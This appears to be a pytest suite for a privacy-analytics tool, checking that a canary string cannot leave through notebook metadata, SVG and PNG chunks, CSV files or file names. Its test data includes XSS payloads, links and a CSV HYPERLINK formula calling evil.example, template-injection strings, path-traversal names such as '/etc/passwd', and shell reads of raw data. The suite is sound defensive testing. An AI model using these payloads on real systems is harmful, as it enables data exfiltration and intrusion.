"""Attacks on what leaves: a canary in every hiding place, and 0 get out.

Each test is named after its row of the list of attacks. It plants the canary, sees it held back, then switches that
control off and sees the canary get out: so it is this control that holds it, and the test can fail.
"""

from __future__ import annotations

import ast
import base64
import copy
import json
import re
import struct
import zlib
from html import escape
from pathlib import Path

import nbformat
import pytest
from find import UNREADABLE, find

from privacy_analytics import figures, gate
from privacy_analytics.dp.releases import Cell as Number
from privacy_analytics.dp.releases import Release
from privacy_analytics.dp.store import ReleaseStore
from privacy_analytics.errors import NotebookError, NotFound, UsageError
from privacy_analytics.exports import tables as exported
from privacy_analytics.exports import to_csv, to_png, to_svg
from privacy_analytics.gate import Vouched, examine, fragments, notebook, page, pictures, tables
from privacy_analytics.gate.notebook import rebuilt
from privacy_analytics.report import lint, parameters, redaction, render, run, shared
from privacy_analytics.report.manifest import vouch
from privacy_analytics.report.render import Facts, render_html

CANARY = "Zanzibar Quux Ferrule"
"""Shaped like nothing, so that no pattern helps: only what is not on a list is held back."""
FACTS = Facts("Tonearm", "2026-10", "2026-10.r0", "1.0", "privacy@tonearm.example")
ABOUT = {"title": "Usage report", "facts": FACTS}
EMAIL = "zanzibar.quux@ferrule.example"


def _release(name, values):
    cells = tuple(Number((key,), value, value - 40, value + 40, 20.0, "ok") for key, value in values.items())
    about = {"kind": "count_accounts", "table": "events", "by": ["feature"], "where": [], "cohort": None}
    return Release(
        f"r-{name}", name, "accounts", "events", ("feature",), "2026-10", "2026-10.r0", "all", 20, cells, about
    )


RELEASE = _release("features", {"chat": 9000.0, "mix_assist": 1240.0})
TABLE = figures.table(RELEASE)
FIGURE = figures.figure(RELEASE)
SPEC = figures.specifications(FIGURE)[0]


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    made = ReleaseStore(tmp_path_factory.mktemp("releases"))
    made.put(RELEASE.id, RELEASE.to_json())
    return made


def _book(prose="What people used.", *outputs, source="released.show()"):
    cells = [
        nbformat.v4.new_markdown_cell(f"# Usage report\n\n{prose}", id="a-00"),
        nbformat.v4.new_code_cell('month: str = ""', id="a-01", metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell(source, id="a-02", outputs=list(outputs)),
    ]
    return nbformat.v4.new_notebook(cells=cells)


def _shown(html=TABLE):
    return nbformat.v4.new_output("display_data", {"text/html": html, "text/plain": "Release"})


VALUES = {"month": "2026-10"}
BOOK = _book("What people used.", _shown())
VOUCHED = vouch(BOOK, VALUES, **ABOUT)
PAGE = render_html(BOOK, **ABOUT)
PICTURED = render_html(_book("What people used.", _shown(FIGURE)), **ABOUT)
SHARED = rebuilt(shared.cells(BOOK, VALUES, shared.outputs(BOOK)))


def _holds(data, tmp_path, name, text=CANARY):
    """Whether somebody who opens everything finds the canary in a file."""
    folder = tmp_path / "opened"
    folder.mkdir(exist_ok=True)
    (folder / name).write_bytes(data)
    hits = find(folder, [text])
    (folder / name).unlink()
    return any(hit.needle != UNREADABLE for hit in hits)


def _held_by(rule, name, data, store, vouched=VOUCHED):
    """The findings, of which one is by this rule."""
    found = examine(name, data, store, vouched)
    assert rule in {finding.rule for finding in found}, found
    assert not any(CANARY in str(finding) for finding in found)


def _passes(name, data, store, vouched=VOUCHED):
    return examine(name, data, store, vouched) == []


def nothing(*_, **__):
    return []


def test_what_is_honest_passes(store):
    assert _passes("report.html", PAGE.encode(), store)
    assert _passes("report.ipynb", SHARED, store)


# error messages with values; failed run keeps traceback; logs

RAISED = {"ename": "ValueError", "evalue": CANARY, "traceback": [f"Cell In[1], line 1\nValueError: {CANARY}"]}
OURS = {"ename": "UsageError", "evalue": CANARY, "traceback": [f"Cell In[1], line 1\nUsageError: {CANARY}"]}
NAMED = {"ename": CANARY.replace(" ", ""), "evalue": "x", "traceback": []}


@pytest.mark.parametrize("error", [RAISED, OURS, NAMED], ids=["foreign", "ours from a cell", "in its name"])
def test_error_messages(error, monkeypatch):
    secret = CANARY if CANARY in json.dumps(error) else CANARY.replace(" ", "")
    assert secret not in json.dumps(redaction.redacted(error))
    monkeypatch.setattr(redaction, "_OURS", {error["ename"]})
    monkeypatch.setattr(redaction, "_is_raised_here", lambda _: True)
    assert secret in json.dumps(redaction.redacted(error))


LEFT = [
    nbformat.v4.new_output("stream", name="stdout", text=CANARY),
    nbformat.v4.new_output("stream", name="stderr", text=CANARY),
    nbformat.v4.new_output("execute_result", {"text/plain": CANARY}, execution_count=1),
    nbformat.v4.new_output("display_data", {"text/html": f"<p>{CANARY}</p>"}),
    nbformat.v4.new_output("display_data", {"text/html": FIGURE.replace("Chat", CANARY)}),
    nbformat.v4.new_output("display_data", {"text/html": FIGURE, "image/png": "x"}, metadata={"note": CANARY}),
    nbformat.v4.new_output("error", **redaction.redacted(RAISED)),
]


def test_failed_run_keeps_traceback(store, tmp_path, monkeypatch):
    executed = _book("What people used.", *LEFT)
    kept = shared.failed(BOOK, executed, VALUES, store)
    assert not _holds(kept, tmp_path, "failed.ipynb")
    assert "ValueError" in kept.decode()
    monkeypatch.setattr(shared, "_is_proven", lambda *_: True)
    assert _holds(shared.failed(BOOK, executed, VALUES, store), tmp_path, "failed.ipynb")


def test_logs(empty, monkeypatch, caplog, tmp_path):
    empty.path("notebooks").mkdir()
    nbformat.write(_book(), empty.path("notebooks", "u.ipynb"))

    def dies(_, book, *__, on_cell_start, **___):
        on_cell_start(cell=book.cells[0], cell_index=0)
        book.cells[-1].outputs = LEFT[:3]
        raise RuntimeError(CANARY)

    monkeypatch.setattr(run.papermill_engines, "execute_notebook_with_engine", dies)
    caplog.set_level(0)
    with pytest.raises(NotebookError, match=r"cell 1 .Usage report.: RuntimeError") as failed:
        run.run(empty, "u", month="2026-10", snapshot="2026-10.r0", parameters={})
    assert CANARY not in str(failed.value) + caplog.text
    assert (empty.path("runs") / "2026-10" / "u" / "failed.ipynb").exists()
    assert [hit for hit in find(empty.path("runs"), [CANARY]) if hit.needle != UNREADABLE] == []
    monkeypatch.setattr(run, "failed", lambda book, executed, *_: nbformat.writes(executed).encode())
    with pytest.raises(NotebookError):
        run.run(empty, "u", month="2026-10", snapshot="2026-10.r0", parameters={})
    assert find(empty.path("runs"), [CANARY])


# notebook outputs; hidden outputs, collapsed cells, metadata, attachments, widget state


@pytest.mark.parametrize("output", LEFT[:5], ids=["stdout", "stderr", "last expression", "html", "changed figure"])
def test_notebook_outputs(output, store, monkeypatch):
    executed = _book("What people used.", output)
    pretends = "data-fragment" in str(output)  # what looks like a figure is left to the gate
    if not pretends:
        with pytest.raises(NotebookError) as refused:
            render_html(executed, **ABOUT)
        assert CANARY not in str(refused.value)
        as_html = nbformat.v4.new_output("display_data", {"text/html": str(output)})
        monkeypatch.setattr(render, "_kept", lambda *_: as_html)
    made = render_html(executed, **ABOUT)
    assert CANARY in made
    _held_by("fragments" if pretends else "prose", "report.html", made.encode(), store)


def _in_output(key, value):
    def spoil(book):
        book["cells"][3]["outputs"][0][key] = value

    return spoil


def _in_cell(number, key, value):
    def spoil(book):
        book["cells"][number][key] = value

    return spoil


def _more_output(output):
    return lambda book: book["cells"][3]["outputs"].append(json.loads(json.dumps(output)))


HIDDEN = {
    "collapsed cell": _in_cell(3, "metadata", {"collapsed": True, "note": CANARY}),
    "hidden source": _in_cell(3, "metadata", {"jupyter": {"source_hidden": True, CANARY: 1}}),
    "cell metadata": _in_cell(0, "metadata", {"slideshow": {"slide_type": CANARY}}),
    "tags": _in_cell(3, "metadata", {"tags": [CANARY]}),
    "timings": _in_cell(3, "metadata", {"execution": {"iopub.execute_input": CANARY}}),
    "attachment": _in_cell(0, "attachments", {"a.txt": {"text/plain": base64.b64encode(CANARY.encode()).decode()}}),
    "execution count": _in_cell(3, "execution_count", int.from_bytes(b"Quux")),
    "output metadata": _in_output("metadata", {"isolated": CANARY}),
    "text beside a figure": _in_output("data", {"text/html": TABLE, "text/plain": CANARY}),
    "chart specification": _in_output("data", {"text/html": TABLE, "application/vnd.vegalite.v5+json": {"d": CANARY}}),
    "widget view": _in_output(
        "data", {"text/html": TABLE, "application/vnd.jupyter.widget-view+json": {"model_id": CANARY}}
    ),
    "widget state": lambda book: book["metadata"].update(widgets={"state": CANARY}),
    "papermill metadata": lambda book: book["metadata"].update(papermill={"parameters": {"who": CANARY}}),
    "author": lambda book: book["metadata"].update(authors=[{"name": CANARY}]),
    "kernel name": lambda book: book["metadata"]["kernelspec"].update(display_name=CANARY),
    "format": lambda book: book.update({"orig_nbformat": CANARY}),
    "printed": _more_output(LEFT[0]),
    "error": _more_output(nbformat.v4.new_output("error", ename="E", evalue=CANARY, traceback=[CANARY])),
    "result": _more_output(LEFT[2]),
}


@pytest.mark.parametrize("place", HIDDEN)
def test_hidden_outputs_metadata_attachments_and_widget_state(place, store, tmp_path, monkeypatch):
    book = json.loads(SHARED)
    HIDDEN[place](book)
    data = notebook._text(book)
    assert place == "execution count" or _holds(data, tmp_path, "report.ipynb")
    monkeypatch.setattr(notebook, "identities", nothing)  # the second look would find some of them, too
    assert {finding.rule for finding in examine("report.ipynb", data, store, VOUCHED)} & {"keys", "readable"}
    monkeypatch.setattr(notebook, "_differences", nothing)
    left = {finding.rule for finding in examine("report.ipynb", data, store, VOUCHED)}
    assert left <= {"fragments", "readable"}  # those that show HTML of their own have a second control


def test_a_key_that_stands_twice(store, monkeypatch):
    data = SHARED.replace(b'"nbformat": 4,', f'"nbformat": "{CANARY}",\n "nbformat": 4,'.encode())
    _held_by("keys", "report.ipynb", data, store)
    monkeypatch.setattr(notebook, "_differences", nothing)
    assert _passes("report.ipynb", data, store)


# papermill parameters; injected cell


@pytest.mark.parametrize("value", [EMAIL, f"{EMAIL}\n", f'"{CANARY}"', f"{{{CANARY}}}", "a'b", "x" * 99])
def test_papermill_parameters_with_emails(value, monkeypatch):
    book = _book()
    book.cells[1].source = 'month: str = ""\ncohort: str = ""'
    with pytest.raises(UsageError) as refused:
        parameters.typed(book, {"cohort": value})
    assert value not in str(refused.value)
    monkeypatch.setattr(parameters, "_PLAIN", re.compile(".*", re.DOTALL))
    assert parameters.typed(book, {"cohort": value}) == {"cohort": value}


def test_injected_cell(store, tmp_path, monkeypatch):
    executed = copy.deepcopy(BOOK)
    executed.cells.insert(2, nbformat.v4.new_code_cell(f"who = '{CANARY}'", id=shared.GIVEN))
    values = {"month": "2026-10", "workspace": "/srv/ferrule"}
    data = rebuilt(shared.cells(BOOK, values, shared.outputs(executed)))
    assert b"month = '2026-10'" in data
    assert not _holds(data, tmp_path, "report.ipynb")
    assert not _holds(data, tmp_path, "report.ipynb", "ferrule")
    assert _passes("report.ipynb", data, store)
    spoiled = rebuilt(shared.cells(executed, {}, shared.outputs(executed)))
    _held_by("cells", "report.ipynb", spoiled, store)
    monkeypatch.setattr(notebook.Cell, "digest", next(iter(VOUCHED.cells)))
    assert _passes("report.ipynb", spoiled, store)


@pytest.mark.parametrize("text", ['"); import os #', "{0.real}", "{{ 7*7 }}", "{% raw %}", "$(id)", "%s", "\\x00"])
def test_template_and_format_injection(text):
    book = _book(text)
    assert escape(text) in render_html(book, **ABOUT)  # as it was written
    assigned = ast.parse(shared.given({"who": text})).body[0]
    assert isinstance(assigned, ast.Assign)
    assert ast.literal_eval(assigned.value) == text


# plot specifications; SVG, comments, data- attributes, CSS, tooltips; XSS; third-party requests


def test_plot_specifications_embed_data():
    rows = _release("features", {"chat": 9000.0, "mix_assist": 1240.0})
    drawn = figures.figure(rows)
    said = drawn.replace(escape(json.dumps(SPEC, sort_keys=True, separators=(",", ":"))), "")
    assert not re.search(r"datum|\$schema|vega|\"values\"", said)
    assert set(re.findall(r"[a-z]+_[a-z]+", said)) == set()  # nor a key as the data has it


IN_A_FIGURE = {
    "SVG title": ("</figure>", f"<title>{CANARY}</title></figure>"),
    "SVG description": ("</figcaption>", f"</figcaption><desc>{CANARY}</desc>"),
    "SVG metadata": ("</svg>", f"<metadata>{CANARY}</metadata></svg>"),
    "tooltip": ("<svg ", f'<svg title="{CANARY}" '),
    "label": ("aria-label=", f'aria-description="{CANARY}" aria-label='),
    "comment": ("</figure>", f"<!-- {CANARY} --></figure>"),
    "data- attribute": ("<svg ", f'<svg data-note="{CANARY}" '),
    "CSS": ("</figure>", f"<style>.a::after{{content:'{CANARY}'}}</style></figure>"),
    "custom property": ("<svg ", f'<svg style="--note:{CANARY}" '),
    "class": ('class="mark"', f'class="mark {CANARY}"'),
    "entities": ("Chat", "".join(f"&#{ord(letter)};" for letter in CANARY)),
    "specification": ("&quot;options&quot;:{}", f"&quot;options&quot;:{{&quot;{CANARY}&quot;:1}}"),
}
AROUND = {
    "comment": f"<!-- {CANARY} -->",
    "data- attribute": f'<p data-note="{CANARY}">Fine.</p>',
    "CSS": f"<style>.a::after{{content:'{CANARY}'}}</style>",
    "tooltip": f'<p title="{CANARY}">Fine.</p>',
    "words": f"<p>{CANARY}</p>",
    "hidden words": f"<p hidden>{CANARY}</p>",
    "noscript": f"<noscript>{CANARY}</noscript>",
    "template": f"<template>{CANARY}</template>",
    "after the end": f"</html>{CANARY}",
    "link": f'<a href="#{CANARY.replace(" ", "-")}">up</a>',
    "data URI": f'<img src="data:text/plain;base64,{base64.b64encode(CANARY.encode()).decode()}">',
    "remote image": f'<img src="https://evil.example/{CANARY}">',
    "script": f"<script>'{CANARY}'</script>",
    "handler": f"<p onclick=\"'{CANARY}'\">Fine.</p>",
    "meta": f'<meta name="author" content="{CANARY}">',
}


def _lenient(text, _):
    """Cuts out whatever calls itself a fragment."""
    pieces = re.split(r'<section class="pa" data-fragment="[^"]*">.*?</section>', text, flags=re.DOTALL)
    return fragments.Cut([(text.index(piece), piece) for piece in pieces], ['{"options":{}}'], [])


@pytest.mark.parametrize("place", IN_A_FIGURE)
def test_svg_title_comments_data_attributes_and_css_in_a_figure(place, store, monkeypatch):
    old, new = IN_A_FIGURE[place]
    spoiled = PICTURED.replace(old, new, 1)
    assert spoiled != PICTURED
    _held_by("fragments", "report.html", spoiled.encode(), store)
    monkeypatch.setattr(page, "cut", _lenient)
    assert _passes("report.html", spoiled.encode(), store)


@pytest.mark.parametrize("place", AROUND)
def test_comments_data_attributes_css_and_words_around_figures(place, store, monkeypatch):
    spoiled = PAGE.replace("</body>", f"{AROUND[place]}</body>", 1).encode()
    _held_by("prose", "report.html", spoiled, store)
    monkeypatch.setattr(page, "_markup", nothing)
    assert not _passes("report.html", spoiled, store)
    monkeypatch.setattr(page, "_blocks", nothing)
    assert _passes("report.html", spoiled, store)


@pytest.mark.parametrize(
    ("place", "rule"), [(place, "markup") for place in AROUND if place not in ("words", "after the end", "link")]
)
def test_markup_is_refused_even_where_its_words_are_vouched_for(place, rule, store, monkeypatch):
    spoiled = PAGE.replace("</body>", f"{AROUND[place]}</body>", 1).encode()
    monkeypatch.setattr(page, "_blocks", nothing)
    _held_by(rule, "report.html", spoiled, store)
    monkeypatch.setattr(page, "_markup", nothing)
    assert _passes("report.html", spoiled, store)


PAYLOADS = [
    "<script>alert()</script>",
    "<img src=x onerror=alert()>",
    "<svg onload=alert()>",
    "[x](javascript:alert())",
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "<a href='//evil.example'>x</a>",
    "<iframe src=//evil.example>",
    "</section><script>alert()</script>",
    "<style>@import '//evil.example/x.css'</style>",
    "[x]: https://evil.example\n\n[x]",
    "<https://evil.example>",
]


def test_xss_and_markdown(store):
    book = _book("Fine.", _shown())
    book.cells += [nbformat.v4.new_markdown_cell(payload) for payload in PAYLOADS]
    made = render_html(book, **ABOUT)
    assert not re.search(r"<script|<img|<svg on|<iframe|<a href=\"(?!#|mailto:privacy@)", made)
    assert _passes("report.html", made.encode(), store, vouch(book, VALUES, **ABOUT))


def test_xss_passes_nowhere_when_prose_is_not_escaped(store, monkeypatch):
    raw = render.mistune.create_markdown(escape=False)
    monkeypatch.setattr(render, "_MARKDOWN", raw)
    book = _book(PAYLOADS[0], _shown())
    made = render_html(book, **ABOUT)
    assert PAYLOADS[0] in made
    _held_by("markup", "report.html", made.encode(), store, vouch(book, VALUES, **ABOUT))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_in_labels_and_keys(payload):
    drawn = figures.table(_release("x", {payload: 900.0}), title=payload.replace("\n", " "))
    assert not re.search(r"<script|<img|<svg on|<iframe|<a ", drawn)


def test_third_party_requests(svg):
    for made in (PICTURED, SHARED.decode(), svg.decode()):
        assert set(re.findall(r"https?://[\w./]*", made)) <= {"http://www.w3.org/2000/svg"}
    assert not re.search(r"\b(?:src|srcset|data|poster|action|formaction)=|url\(|@import|(?<!http:)//\w", PICTURED)


# file metadata; PNG text; SVG files; CSV formulas; file names


@pytest.fixture(scope="module")
def png(store):
    return to_png(SPEC, store)


@pytest.fixture(scope="module")
def svg(store):
    return to_svg(SPEC, store)


def _chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


PNG = {
    "text": _chunk(b"tEXt", b"Author\0" + CANARY.encode()),
    "compressed text": _chunk(b"zTXt", b"Author\0\0" + zlib.compress(CANARY.encode())),
    "international text": _chunk(b"iTXt", b"Title\0\0\0\0\0" + CANARY.encode()),
    "EXIF": _chunk(b"eXIf", b"MM\0*" + CANARY.encode()),
    "profile": _chunk(b"iCCP", b"p\0\0" + zlib.compress(CANARY.encode())),
    "time": _chunk(b"tIME", bytes(7)),
    "private": _chunk(b"juNk", CANARY.encode()),
}


@pytest.mark.parametrize("place", [*PNG, "behind the end"])
def test_file_metadata_of_a_png(place, png, store, monkeypatch):
    vouched = Vouched(drawn_from=SPEC)
    behind = place == "behind the end"
    spoiled = png + _chunk(b"IDAT", CANARY.encode()) if behind else png[:33] + PNG[place] + png[33:]
    _held_by("chunks", "chart.png", spoiled, store, vouched)
    monkeypatch.setattr(pictures, "to_png", lambda *_: spoiled)
    assert not _passes("chart.png", spoiled, store, vouched)  # each of the two controls holds it alone
    monkeypatch.setattr(pictures, "foreign", lambda _: False)
    assert _passes("chart.png", spoiled, store, vouched) or behind


SVG = {
    "title": ("<title>", f"<title>{CANARY} "),
    "description": ("<desc>", f"<desc>{CANARY} "),
    "comment": ("<rect", f"<!-- {CANARY} --><rect"),
    "data- attribute": ("<rect", f'<rect data-note="{CANARY}"'),
    "CSS": ("<style>", f"<style>/* {CANARY} */"),
    "metadata": ("<rect", f"<metadata>{CANARY}</metadata><rect"),
    "script": ("<rect", f"<script>'{CANARY}'</script><rect"),
    "text": ("Chat", CANARY),
}


@pytest.mark.parametrize("place", SVG)
def test_svg_files(place, svg, store, tmp_path, monkeypatch):
    spoiled = svg.decode().replace(*SVG[place], 1).encode()
    assert _holds(spoiled, tmp_path, "chart.svg")
    _held_by("bytes", "chart.svg", spoiled, store)
    monkeypatch.setattr(pictures, "to_svg", lambda *_: spoiled)
    assert _passes("chart.svg", spoiled, store) or place in ("comment", "script")
    monkeypatch.setattr(pictures, "_ACTIVE", re.compile(r"(?!)"))
    assert _passes("chart.svg", spoiled, store)


def test_csv_formulas(store, monkeypatch):
    formula = f'=HYPERLINK("//evil.example/{CANARY}")'
    bad = _release("x", {formula: 900.0})
    assert b"\n'=HYPER" in to_csv(bad).replace(b'"', b"")
    spoiled = to_csv(RELEASE).replace(b"\nchat,", f'\n"{formula}",'.encode())
    _held_by("bytes", "features.csv", spoiled, store)
    monkeypatch.setattr(exported, "_safe", lambda text: text)
    assert b"\n=HYPER" in to_csv(bad).replace(b'"', b"")
    monkeypatch.setattr(tables, "to_csv", lambda _: spoiled)
    assert _passes("features.csv", spoiled, store)


@pytest.mark.parametrize("line", [b"sep=;\n", b"\xef\xbb\xbf", b"# by Zanzibar Quux Ferrule\n", b"\0"])
def test_csv_with_a_separator_line_a_mark_or_a_comment(line, store):
    _held_by("bytes", "features.csv", line + to_csv(RELEASE), store)


@pytest.mark.parametrize(
    "name", ["zanzibar-quux-ferrule.csv", "zanzibarquux_ferrule.csv", "WmFuemliYXIgUXV1eCBGZXJydWxl.csv"]
)
def test_file_names(name, store, monkeypatch):
    vouched = Vouched(canaries=(CANARY, "zanzibar-quux-ferrule", "zanzibarquux_ferrule"))
    _held_by("name", name, to_csv(RELEASE), store, vouched)
    monkeypatch.setattr(gate, "has_canary", lambda *_: False)
    monkeypatch.setattr(gate, "_NAME", re.compile(".*"))
    assert _passes(name, to_csv(RELEASE), store, vouched)


HOSTILE = [
    *("..", ".", "", "/", "../x", "../../private/key", "x/../../y", "/etc/passwd", "//evil/x", "x/y", "x\\y", "..\\x"),
    *("x\0", "x\0.html", "x\n", "\nx", " x", "x ", "x.html/..", "~", "~root", "$HOME", "`id`", "$(id)", "x;y", "x|y"),
    *(
        "%2e%2e%2f",
        "..%2f",
        "x%00",
        "\u2025/x",
        "\uff0e\uff0e/x",
        "\u2215etc",
        "\u202ex",
        "é",
        "X",
        "-rf",
        "--help",
        "*",
    ),
    *("?", "con:", "x" * 300, "x:y", "{0}", "x'y", 'x"y', "<x>", "&x"),
]


@pytest.mark.parametrize("name", HOSTILE)
def test_path_traversal(name, empty, store):
    before = sorted(Path(empty.root).rglob("*"))
    arguments = {"snapshot": "x", "parameters": {}}
    with pytest.raises(UsageError):
        run.run(empty, name, month="2026-10", **arguments)
    with pytest.raises(UsageError):
        run.run(empty, "usage", month=name, **arguments)
    for whole in (name, f"2026-10/{name}", f"{name}/usage", f"2026-10/usage/{name}"):
        with pytest.raises(UsageError):
            run.finished(empty, whole)
    _held_by("name", f"{name}.csv", to_csv(RELEASE), store)
    assert sorted(Path(empty.root).rglob("*")) == before


def test_path_traversal_has_only_its_rule_between(empty, monkeypatch):
    nbformat.write(_book(), empty.root / "outside.ipynb")
    empty.path("notebooks").mkdir()
    monkeypatch.setattr(run, "_SLUG", re.compile(".*"))
    assert run._notebook(empty, "../outside").is_file()
    with pytest.raises(NotFound):
        run._notebook(empty, "missing")


# notebook reads raw files

READS = {
    "imports": "import os",
    "imports from": "from polars import read_csv",
    "imports inside": "from privacy_analytics.curator import Curator",
    "imports relatively": "from . import x",
    "open": "open('/srv/export/chats.jsonl')",
    "aliased open": "o = open",
    "read_csv": "session.pd.read_csv('x')",
    "scan_parquet": "session.pl.scan_parquet('x')",
    "private name": "session._curator",
    "dunder": "().__class__.__bases__",
    "exec": "exec('import os')",
    "getattr": "getattr(session, 'x')",
    "import by name": "__import__('os')",
    "shell": "!cat /srv/export/chats.jsonl",
    "magic": "%load_ext x",
    "cell magic": "%%bash\ncat x",
    "magic by call": "get_ipython().system('ls')",
    "print": "print(released)",
    "HTML": "display_html(f'<b>{released}</b>')",
    "import of a private name": "from privacy_analytics import _x",
    "format of HTML": "'<p>{}</p>'.format(1)",
}


@pytest.mark.parametrize("attempt", READS)
def test_notebook_reads_raw_files(attempt, monkeypatch):
    book = _book(source=READS[attempt])
    with pytest.raises(UsageError, match="Cell 3 "):
        lint.lint(book)
    monkeypatch.setattr(lint, "_broken", nothing)
    if attempt not in ("shell", "magic", "cell magic"):  # those are no Python
        lint.lint(book)
